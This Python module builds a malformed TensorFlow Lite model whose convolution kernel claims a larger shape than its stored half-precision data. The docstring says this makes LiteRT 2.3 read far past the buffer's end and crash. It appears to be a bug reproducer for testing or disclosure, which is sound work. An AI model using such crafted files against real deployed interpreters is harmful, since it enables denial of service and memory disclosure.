"""A `.tflite` file that crashes its interpreter: one convolution whose kernel claims to be larger than its data."""

from __future__ import annotations

from typing import Any

import numpy as np

SIDE = 8
KERNEL = np.array([[0, 1, 0], [1, 2, 1], [0, 1, 0]], np.float32)


def tflite(claimed_side: int = 3) -> bytes:
    """A 3×3 convolution with zeros around the image, (1, 8, 8, 1) to the same; valid if its side is claimed to be 3.

    The kernel is stored in half precision, as litert-torch and TensorFlow do it. LiteRT 2.3 holds the stored numbers
    against their shape, but believes that of the dequantized ones: for 4096 it reads 64 MB past the end of nine.
    """
    import flatbuffers
    from ai_edge_litert import schema_py_generated as schema

    floats, halves = schema.TensorType.FLOAT32, schema.TensorType.FLOAT16

    def tensor(name: str, shape: list[int], buffer: int, dtype: int = floats) -> Any:
        return _filled(schema.TensorT(), name=name, shape=shape, buffer=buffer, type=dtype)

    def operator(opcode: int, inputs: list[int], outputs: list[int], **options: Any) -> Any:
        return _filled(schema.OperatorT(), opcodeIndex=opcode, inputs=inputs, outputs=outputs, **options)

    def code(builtin: int) -> Any:
        return _filled(schema.OperatorCodeT(), builtinCode=builtin, deprecatedBuiltinCode=builtin, version=1)

    same = _filled(schema.Conv2DOptionsT(), padding=schema.Padding.SAME, strideH=1, strideW=1)
    image, stored, kernel, offset, result = range(5)
    tensors = [
        tensor("image", [1, SIDE, SIDE, 1], 0),
        tensor("stored", [1, 3, 3, 1], 1, halves),
        tensor("kernel", [1, claimed_side, claimed_side, 1], 0),
        tensor("offset", [1], 2),
        tensor("result", [1, SIDE, SIDE, 1], 0),
    ]
    operators = [
        operator(0, [stored], [kernel]),
        operator(
            1,
            [image, kernel, offset],
            [result],
            builtinOptionsType=schema.BuiltinOptions.Conv2DOptions,
            builtinOptions=same,
        ),
    ]
    graph = _filled(schema.SubGraphT(), tensors=tensors, operators=operators, inputs=[image], outputs=[result])
    buffers = [
        _filled(schema.BufferT(), data=np.frombuffer(data, np.uint8) if data else None)
        for data in (b"", KERNEL.astype(np.float16).tobytes(), bytes(4))
    ]
    codes = [code(schema.BuiltinOperator.DEQUANTIZE), code(schema.BuiltinOperator.CONV_2D)]
    model = _filled(schema.ModelT(), version=3, operatorCodes=codes, subgraphs=[graph], buffers=buffers)
    builder = flatbuffers.Builder(1024)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _filled(table: Any, **fields: Any) -> Any:
    for name, value in fields.items():
        setattr(table, name, value)
    return table
